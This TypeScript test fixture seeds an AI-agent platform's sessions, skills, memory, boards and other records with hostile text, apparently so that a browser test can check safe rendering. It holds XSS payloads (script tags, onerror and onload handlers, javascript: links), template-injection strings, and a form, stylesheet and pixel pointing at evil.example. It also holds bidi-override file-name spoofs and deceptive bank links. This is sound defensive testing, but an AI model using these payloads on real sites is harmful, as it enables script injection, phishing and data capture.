// A profile in which everything that holds a text holds a hostile one: markup, scripts, event handlers, `javascript:` links, templates, bidi
// overrides, zero-width characters, and words of thousands of characters. What the API refuses is noted. Used by hostile.browser.test.ts.
import { ProblemError } from "../../../cli/connection/client.ts";
import type { Owner } from "./owner.ts";
import { PACED_MODEL } from "./paced-model.ts";
import { order, say } from "./world/talk.ts";
import { toSkillMd } from "./world/lessons.ts";

export interface HostileWorld {
  /** With a tool's result, a file, an answer and a parked question. */
  session: string;
  /** The model's answer is hostile Markdown. */
  answered: string;
  skills: string[];
  board: string;
  card: string;
  /** `what: code` of each text that the API did not take. */
  refused: string[];
}

const WORD = "long".repeat(1_250);
/** What would open a dialog, ask another origin, leave a box, or turn the text around. One of them shows itself when it runs. */
export const MARKUP = [
  "<script>alert('ran')</script>",
  "<img src=x onerror=alert('ran')>",
  "<svg onload=alert('ran')><a href=\"javascript:alert('ran')\">x</a></svg>",
  "<iframe src=\"javascript:alert('ran')\"></iframe>",
  "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
  "[link](javascript:alert('ran')) ![picture](https://evil.example/pixel.png)",
  "<form action=https://evil.example><input name=key></form></div></main></body>",
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
].join(" ");
const BIDI = "\u202Egnp.exe\u202C \u2066isolated\u2069 zero\u200Bwidth\u200D\uFEFF مرحبا שלום \u202Enot closed";
/** What a reader of Markdown runs out of stack on, and what takes it seconds. */
const MARKDOWN = `${">".repeat(5_000)}\n\n${"_a".repeat(5_000)}`;
/** Words that do not say where their link leads, and the last that do. */
const LINKS = [
  '[bank.example](https://evil.example/x "https://bank.example")',
  "https://bank.example@evil.example/",
  "[Allow once](https://evil.example)",
  "https://good.example/x",
].join(" ");
/** Without control characters, which names may not have. */
const NAME = `${MARKUP.slice(0, 60)} &amp; "quoted" ${"W".repeat(80)}`;
const TEXT = `${MARKUP}\n\n${BIDI}\n\n${MARKDOWN}\n\n${WORD}`;
/** It closes the quotation marks around it, and goes on as if the page spoke. */
export const TITLE = "x”? Nothing is lost. “y \u202Egpj.exe";

export async function seedHostileWorld(owner: Owner): Promise<HostileWorld> {
  const refused: string[] = [];
  /** `null`: the API refuses the text. */
  const attempt = async <T>(what: string, work: () => Promise<T>): Promise<T | null> => {
    try {
      return await work();
    } catch (error) {
      if (!(error instanceof ProblemError) || error.problem.status >= 500) throw error;
      refused.push(`${what}: ${error.problem.code}`);
      return null;
    }
  };
  /** The first of these texts that the API takes: whole, without a control character, short. */
  const send = async <T>(what: string, method: string, path: string, toBody: (text: string) => object) => {
    for (const [form, text] of Object.entries({ whole: TEXT, line: MARKUP, name: NAME, short: MARKUP.slice(0, 60) })) {
      const done = await attempt(`${what}, ${form}`, () => owner.call<T>(method, path, toBody(text)));
      if (done !== null) return done;
    }
    throw new Error(`${what}: the API takes no hostile text: ${refused.join(", ")}`);
  };
  const session = await seedSession(owner, send);
  const answered = await seedAnswer(owner);
  const skills = await seedSkills(owner, attempt);
  await seedMemory(send);
  const card = await seedBoard(send);
  await seedRest(owner, send);
  return { session, answered, skills, board: "main", card, refused };
}

type Send = <T>(what: string, method: string, path: string, toBody: (text: string) => object) => Promise<T>;

async function seedSession(owner: Owner, send: Send): Promise<string> {
  const { session } = await send<{ session: string }>("a title", "POST", "/v1/sessions", (title) => ({ title }));
  await owner.client.putFile(session, `<img src=x onerror=alert(1)> ${"W".repeat(150)}.md`, TEXT);
  await owner.client.putFile(session, "notes.md", TEXT);
  await say(owner, session, "Show me notes.md");
  await say(owner, session, "Run `cat notes.md; cat notes.md >&2; exit 3`");
  await say(owner, session, order("write_file", { path: "notes.md", content: `${MARKUP}\n${BIDI}\n` }));
  await say(owner, session, TEXT);
  await say(owner, session, `Ask me: ${MARKUP.slice(0, 100)} ${"W".repeat(200)}? <b>one</b>, ${"W".repeat(200)}`);
  return session;
}

async function seedAnswer(owner: Owner): Promise<string> {
  const { session } = await owner.client.createSession({ title: TITLE });
  await owner.call("PATCH", `/v1/sessions/${session}`, { model: PACED_MODEL });
  await say(owner, session, LINKS);
  await say(owner, session, `${MARKUP}\n\n${">".repeat(5_000)}\n\n${BIDI}`);
  return session;
}

async function seedSkills(owner: Owner, attempt: <T>(what: string, work: () => Promise<T>) => Promise<T | null>) {
  const skills = ["hostile-text", `hostile-${"w".repeat(50)}`];
  for (const name of skills) {
    const description = JSON.stringify(`${MARKUP.slice(0, 200)} ${"W".repeat(400)}`);
    const files = { "SKILL.md": `${toSkillMd(name, description, [MARKUP, BIDI])}\n\n${WORD}\n` };
    await owner.client.putSkill(name, files);
    const path = `references/<b>${"W".repeat(60)}.md`;
    await attempt("a path of a skill", () => owner.client.putSkill(name, { ...files, [path]: TEXT }));
    await owner.client.putSkill(name, { ...files, "references/notes.md": TEXT });
  }
  return skills;
}

async function seedMemory(send: Send): Promise<void> {
  for (const store of ["memory", "user"])
    await send("a fact", "POST", "/v1/memory", (content) => ({ store, content: content.slice(0, 1_000) }));
}

async function seedBoard(send: Send): Promise<string> {
  const { id } = await send<{ id: string }>("a card", "POST", "/v1/boards/main/cards", (text) => ({
    title: text.slice(0, 200).replaceAll("\n", " "),
    body: text,
    label: text.slice(0, 40),
    assignee: { person: text.slice(0, 60) },
  }));
  await send("a comment", "POST", `/v1/boards/main/cards/${id}/comments`, (text) => ({ text }));
  return id;
}

async function seedRest({ call }: Owner, send: Send): Promise<void> {
  await send("a job", "POST", "/v1/jobs", (prompt) => ({ name: "hostile", schedule: "0 7 * * *", prompt }));
  await send("a key's label", "POST", "/v1/keys", (label) => ({ label }));
  await send("a role", "PUT", "/v1/roles/hostile", (description) => ({ description }));
  await send("a personality", "PUT", "/v1/personalities/hostile", (description) => ({
    description,
    text: "Be brief.",
  }));
  await send("a webhook", "POST", "/v1/webhooks", (description) => ({
    ...{ name: "hostile", scheme: "bearer", secret: "a-secret-of-forty-characters-for-tests-01", description },
    prompt: description,
  }));
  await send("a policy's reason", "PUT", "/v1/policies/hostile", (reason) => ({
    ...{ hook: "pre_tool_call", tool: "nothing", decision: "deny", reason },
  }));
  const { session } = await call<{ session: string }>("POST", "/v1/sessions", { title: "A hostile goal" });
  await send("a goal", "PUT", `/v1/sessions/${session}/goal`, (text) => ({ text, maxTurns: 1, subgoals: [text] }));
}
